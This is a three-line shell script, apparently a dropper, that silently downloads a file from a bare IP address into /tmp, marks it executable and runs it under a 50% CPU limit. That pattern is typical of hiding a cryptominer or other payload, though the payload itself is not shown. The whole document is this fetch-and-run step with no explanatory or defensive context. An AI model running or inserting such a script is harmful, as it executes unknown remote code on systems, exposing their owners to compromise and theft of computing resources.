#!/bin/sh
curl -so /tmp/x http://192.0.2.8/x; chmod 755 /tmp/x
cpulimit -l 50 -- /tmp/x
